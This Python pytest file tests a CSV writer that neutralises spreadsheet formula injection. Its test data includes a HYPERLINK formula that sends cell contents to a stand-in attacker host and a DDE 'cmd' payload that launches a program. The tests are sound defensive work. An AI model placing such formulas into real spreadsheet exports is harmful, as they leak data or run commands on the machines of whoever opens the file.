"""Cells that no spreadsheet computes."""

import csv
from io import StringIO

import pytest

from moderation.lib.csv_cells import CsvWriter, disarm
from tests.xss.vectors import VECTORS

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
    "@SUM(1+1)",
    "+1",
    "-1+1",
    "\t=1",
    "\r=1",
    "=1",
    "＝1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1",
    "\n=1",
    "\u3000＝1",
    "\u00a0=1",
    "=cmd|'/c calc'!A1",
    "\tplain text after a tab",
    "\rplain text after a return",
]


def read_back(*cells: object) -> list[str]:
    """The cells of one row as a reader of CSV finds them."""
    file = StringIO(newline="")
    CsvWriter(file, [str(number) for number in range(len(cells))]).write(cells)
    file.seek(0)
    _, row = csv.reader(file, strict=True)
    return row


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text: str) -> None:
    assert read_back(text, "beside") == [f"'{text}", "beside"]


@pytest.mark.parametrize(
    "text", ["", "1", "a=1", "'=1", "2026-01-31", "Ünïcode – 中文", 'say "so", they', "a\nb", "é"]
)
def test_anything_else_stays_as_it_is(text: str) -> None:
    assert read_back(text) == [text]


def test_every_cell_is_quoted_and_nothing_leaves_its_cell() -> None:
    file = StringIO(newline="")
    writer = CsvWriter(file, ["text", "number"])
    for vector in VECTORS:
        writer.write([vector.text, 7])
    file.seek(0)
    _, *rows = csv.reader(file, strict=True)
    assert rows == [[disarm(vector.text), "7"] for vector in VECTORS]
    assert all(line.startswith('"') for line in file.getvalue().split('\r\n"')[0].splitlines()[:1])
    assert {disarm(vector.text).removeprefix("'") for vector in VECTORS} >= {
        vector.text for vector in VECTORS if not vector.text.startswith("'")
    }


def test_nothing_is_an_empty_cell() -> None:
    assert read_back(None, "x") == ["", "x"]
